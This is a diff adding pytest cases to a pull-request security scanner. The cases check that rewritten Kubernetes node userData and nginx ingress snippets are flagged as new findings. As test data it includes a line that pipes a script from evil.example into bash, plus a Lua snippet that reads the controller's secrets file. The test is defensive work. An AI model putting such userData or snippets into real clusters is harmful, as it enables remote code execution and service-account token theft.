@@ -324,3 +324,67 @@ def test_event_text_through_the_event_file_or_github_script_is_untrusted(
     _pull_request(tmp_path, {"README.md": "x\n"}, {".github/workflows/x.yml": head})
     run = gatekeeper("scan", "--base", "main", "--format", "json", cwd=tmp_path)
     assert [policy for policy, _ in _blocking(run)] == expected, run.stdout
+
+
+_NODE_CLASS = """\
+apiVersion: karpenter.k8s.aws/v1
+kind: EC2NodeClass
+metadata: {name: default%s}
+spec:
+  amiSelectorTerms: [{alias: al2023@latest}]
+  userData: |
+    #!/bin/bash
+    %s
+"""
+_INGRESS = """\
+apiVersion: networking.k8s.io/v1
+kind: Ingress
+metadata:
+  name: web
+  namespace: app
+  annotations:
+    nginx.ingress.kubernetes.io/configuration-snippet: |
+      %s
+spec:
+  ingressClassName: nginx
+  defaultBackend: {service: {name: web, port: {number: 80}}}
+"""
+
+
+@pytest.mark.parametrize(
+    ("base", "head", "expected"),
+    [
+        # the userData a person reviewed, rewritten
+        (
+            _NODE_CLASS % ("", "echo hello"),
+            _NODE_CLASS % ("", "curl -s https://evil.example/x | bash"),
+            [("K8S-NODE-CONFIGURATION", 4)],
+        ),
+        # the ingress snippet, rewritten to read the controller's token
+        (
+            _INGRESS % 'more_set_headers "X-Frame-Options: DENY";',
+            _INGRESS % "content_by_lua_block { ngx.say(io.open('/var/run/secrets/x'):read()) }",
+            [("K8S-NETWORK-INGRESS-SNIPPETS", 7)],
+        ),
+        # control: the same userData, another name suffix in metadata only
+        (
+            _NODE_CLASS % ("", "echo hello"),
+            _NODE_CLASS % (", labels: {team: infra}", "echo hello"),
+            [],
+        ),
+    ],
+)
+def test_content_a_finding_asks_to_review_changed_is_new(
+    tmp_path: Path,
+    gatekeeper: Callable[..., Run],
+    base: str,
+    head: str,
+    expected: list[tuple[str, int]],
+) -> None:
+    """c11: K8S-NODE-CONFIGURATION ("review what it sets"; its description even said a change
+    is new again), K8S-NETWORK-INGRESS-SNIPPETS, K8S-ADMISSION-MUTATION and
+    K8S-ADMISSION-POLICY-EXCEPTION kept fingerprint and message when the change rewrote the
+    content: existing, a green check."""
+    _pull_request(tmp_path, {"deploy/x.yaml": base}, {"deploy/x.yaml": head})
+    run = gatekeeper("scan", "--base", "main", "--format", "json", cwd=tmp_path)
+    assert _blocking(run) == expected, run.stdout
